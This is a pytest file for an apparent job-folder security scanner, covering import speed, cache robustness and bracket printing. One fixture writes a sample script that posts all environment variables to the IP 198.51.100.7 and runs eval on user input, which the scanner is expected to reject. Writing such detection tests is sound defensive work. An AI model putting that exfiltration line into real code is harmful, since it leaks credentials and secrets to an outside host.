"""Speed of one small job (session 32): modules a scan has no use for are not imported, and the
configuration's stored patterns are read as marshal data. Neither changes a decision: an entry of the
configuration cache that is stale (another format under the same key) or damaged is ignored."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT

# Readers of archives, pickles and command lines, and the CLI's "did you mean": a job without archives,
# pickles or launch command lines never needs them.
UNUSED = ("argparse", "difflib", "gzip", "pickletools", "tarfile", "zipfile")

SCAN = """
import json, runpy, sys
sys.path.insert(0, {root!r})
sys.argv = ["jobgate", "scan", "--no-cache", "--format", "json", {target!r}]
try:
    import analyzer.commands.cli; analyzer.commands.cli.main()  # as `python -m` runs it, but for run()'s immediate end
except SystemExit:
    pass
print(json.dumps(sorted(m for m in {unused!r} if m in sys.modules)))
"""


def _job(folder: Path) -> Path:
    folder.mkdir()
    (folder / "train.py").write_text(
        "import argparse\nimport numpy as np\n\n"
        "def main():\n    p = argparse.ArgumentParser()\n    p.add_argument('--lr', type=float, default=0.1)\n"
        "    args = p.parse_args()\n    return np.zeros(3) * args.lr\n")
    (folder / "README.md").write_text("# a job\n")
    return folder


def _scan(target: Path, cache_home: Path, unused: tuple[str, ...] = UNUSED) -> tuple[dict, list[str]]:
    """The report and which of `unused` the scan imported."""
    script = SCAN.format(root=str(ROOT), target=str(target), unused=unused)
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "XDG_CACHE_HOME": str(cache_home)}, cwd=cache_home)
    out = proc.stdout
    assert "[" in out, proc.stderr[-3000:]
    report, _, imported = out.rpartition("\n[")  # the report, then the list this script prints
    return json.loads(report), json.loads("[" + imported)


def test_a_small_scan_imports_no_reader_it_does_not_use(tmp_path: Path) -> None:
    report, imported = _scan(_job(tmp_path / "job"), tmp_path)
    assert report["reports"][0]["decision"] == "accept", report
    assert imported == []


def _rewrite_entries(config: Path, body: bytes) -> int:
    """Every entry of the configuration area, rewritten to `body` under a valid tag (a stale format, or
    a bug that wrote garbage: authentication cannot tell)."""
    key = (config.parent / "key").read_bytes()
    count = 0
    for entry in config.rglob("*"):
        if entry.is_file() and not entry.name.startswith(".tmp-"):
            name = entry.name.encode()
            entry.write_bytes(hmac.new(key, name + b"\n" + body, hashlib.sha256).hexdigest().encode() + b"\n" + body)
            count += 1
    return count


def test_a_stale_or_damaged_configuration_entry_changes_no_finding(tmp_path: Path) -> None:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import requests, os\nrequests.post('http://198.51.100.7/x', data=os.environ)\n"
                                  "eval(input())\n")
    clean, _ = _scan(job, tmp_path)
    assert clean["reports"][0]["decision"] == "reject"
    config = tmp_path / "jobgate" / "config"
    # JSON rows of a stored pattern (the earlier format), and bytes that are nothing at all
    for body in (b'[[false, "a", 0, 32, 0, {}, [1, 2, 3]]]', b"\x00\xff garbage"):
        assert _rewrite_entries(config, body) > 0
        again, _ = _scan(job, tmp_path)
        assert again["reports"][0]["findings"] == clean["reports"][0]["findings"]
        assert again["reports"][0]["decision"] == clean["reports"][0]["decision"]


# The text report prints brackets without rich (reports/text.py): a notebook's findings name `x.ipynb[cell 3]`,
# and code is full of `x[i]`; each prints what rich prints.

BRACKETS = ["nb.ipynb[cell 22]", "x[i]", "d['k']", "[bold]forged[/]", "[/]", "[", "]", "x[", "[]", "[ ]",
            "[link=http://x]y[/link]", "a[b", "]x[", "[bold", "[dim]([/]", "[[cell 1]]", "[Installation](u)",
            "x[0] [i] [/bold]", "[@click]", "[#fff]"]


@pytest.mark.parametrize("text", BRACKETS)
def test_brackets_print_without_rich_as_rich_prints_them(text: str) -> None:
    from test_speedcore27 import _report, _with_rich

    from analyzer.reports import text as text_report
    from analyzer.reports.run import Run, Scanned

    for run in (Run([Scanned(_report(text), Path("/jobs")), Scanned(_report("second"), Path("/jobs"))], Path("/"),
                    deleted=(text,)),
                Run([Scanned(_report(f"a {text} b"), Path("/jobs"))], Path("/"))):
        plain = text_report._plain(run)
        assert plain is not None
        assert plain == _with_rich(run)


def test_a_notebooks_text_report_loads_no_rich(tmp_path: Path) -> None:
    job = tmp_path / "job"
    job.mkdir()
    cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
            "source": ["import requests\n", "requests.get('https://example.com/x')\n"]}
    (job / "nb.ipynb").write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    script = ("import runpy, sys\nsys.path.insert(0, %r)\nsys.argv = ['jobgate', 'scan', '--no-cache', %r]\n"
              "try:\n    import analyzer.commands.cli; analyzer.commands.cli.main()\nexcept SystemExit:\n    pass\n"
              "print(any(m == 'rich' or m.startswith('rich.') for m in sys.modules))\n") % (str(ROOT), str(job))
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "XDG_CACHE_HOME": str(tmp_path)}, cwd=tmp_path)
    assert "nb.ipynb[cell 1]" in proc.stdout, proc.stdout + proc.stderr
    assert proc.stdout.splitlines()[-1] == "False"
